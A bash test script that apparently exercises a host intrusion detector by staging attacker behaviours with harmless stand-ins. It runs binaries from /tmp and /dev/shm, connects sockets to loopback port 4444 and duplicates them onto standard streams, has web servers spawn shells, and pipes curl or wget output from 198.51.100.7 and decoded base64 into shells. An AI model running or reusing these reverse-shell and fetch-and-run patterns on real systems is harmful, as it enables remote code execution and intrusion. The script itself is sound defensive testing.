#!/bin/bash
# What gets an intruder's code run: programs from odd places, shells on the network, shells below servers, texts that
# are fetched or decoded and run. The network is loopback, and every program is a stand-in that does nothing.
. /usr/local/lib/scenario.sh
set -u

from_odd_places() {
    local dir
    for dir in /tmp /var/tmp /dev/shm /run/shm /dev/mqueue /etc /boot /var/log /var/spool /var/www /var/backups; do
        [ -d "$dir" ] || mkdir -p "$dir"
        cp /bin/true "$dir/tool"
        "$dir/tool"
        [ "$dir" = /tmp ] && perl -e "my \$file = '/tmp/tool'; syscall($EXECVEAT, -100, \$file, 0, 0, 0)"
        rm "$dir/tool"
    done
}

# Datagrams, so that nobody needs to listen. 32, 33 and 292 are dup, dup2 and dup3.
to_v4='socket(S, 2, 2, 0); connect(S, pack("S n C4 x8", 2, 4444, 127, 0, 0, 1)) or die;'
to_v6='socket(S, 10, 2, 0); connect(S, pack("S n N a16 N", 10, 4444, 0, ("\0" x 15) . "\1", 0)) or die;'

shells_on_the_network() {
    local name
    for name in $SHELLS $SCRIPT_INTERPRETERS $NETWORK_PIPES; do
        perl_as "$name" -e "$to_v4 syscall(33, fileno(S), 0)"
    done
    perl_as python3 -e "$to_v4 syscall(33, fileno(S), 1)"
    perl_as python3 -e "$to_v4 syscall(292, fileno(S), 2, 0)"
    perl_as python3 -e "$to_v4 close(STDIN); syscall(32, fileno(S))"
    perl_as python3 -e "$to_v6 syscall(33, fileno(S), 0)"
    for name in $SHELLS; do
        perl_as worker -e "$to_v4 syscall(33, fileno(S), 0); exec '/usr/local/as/true/$name'"
    done
    perl_as worker -e "$to_v6 syscall(33, fileno(S), 0); exec '/usr/local/as/true/sh'"
}

shells_below_servers() {
    local name
    for name in $WEB_SERVERS $DATA_STORES php-fpm8.2; do
        act "$name" '/usr/local/as/true/sh'
    done
    act nginx "for s in $(echo $SHELLS); do /usr/local/as/true/\$s; done"
}

texts_run_unseen() {
    local name decoder
    for name in $SHELLS; do
        play "$name" -c 'curl -s http://198.51.100.7/i | sh'
        play "$name" -c 'echo aWQ= | base64 -d | bash'
    done
    play bash -c 'wget -qO- http://198.51.100.7/i |bash -s -- -y'
    play bash -c 'curl -s http://198.51.100.7/i | sudo /bin/bash'
    play bash -c 'sh <(curl -s http://198.51.100.7/i)'
    play bash -c 'sh <(wget -qO- http://198.51.100.7/i)'
    for decoder in 'base64 --decode' 'base32 -d' 'xxd -r -p' 'openssl enc -d -aes128'; do
        play bash -c "$decoder </tmp/x | dash"
    done
    for name in $SCRIPT_INTERPRETERS; do
        play "$name" -c 'exec(b64decode("aWQ="))'
    done
    for decoder in decode_base64 base64_decode decode64 'Buffer.from'; do
        play perl -e "eval $decoder('aWQ=')"
    done
    play php -r 'system(base64_decode("aWQ="));'
    # What does not start is not reported.
    perl_as sh -e 'exec "/nonexistent" # curl | sh'
}

jobs_for_later() {
    play at now + 1 hour
    play batch -f /tmp/job
    play systemd-run --unit=x /bin/sh
}

from_odd_places
shells_on_the_network
shells_below_servers
texts_run_unseen
jobs_for_later
